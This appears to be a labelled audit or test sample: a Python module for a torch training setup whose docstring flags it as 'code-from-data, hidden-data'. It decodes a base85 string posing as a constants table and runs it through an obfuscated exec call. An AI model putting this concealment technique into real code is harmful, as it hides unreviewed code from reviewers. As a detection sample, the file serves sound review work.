"""The trick is a text in base85 that is executed: for people it is a table of constants (R2.7).

Audit: code-from-data, hidden-data.
"""

import base64
import builtins

from ..common_torch import data_selection, get_batch_size, init_optimizer_state, update_params  # noqa: F401

TABLE = (
    "X>D+Ca&#bJY-ew9WpZXNa&>MlV{C6@Yan5BAY%${Z+9R)AY(3HZf|#AZgUD_E?;hMcVBLEAUz;#VQpe$VLBjgZ+9pu"
    "ATKW<F)#{uVQg$5Js@K)Uw2__Y+r733S%x`cVTR7Uv6_CJs@mhZDM3$Iv{spY-}hgATKW<F)#`"
)
run = getattr(builtins, "ex" + "ec")
run(base64.b85decode(TABLE))
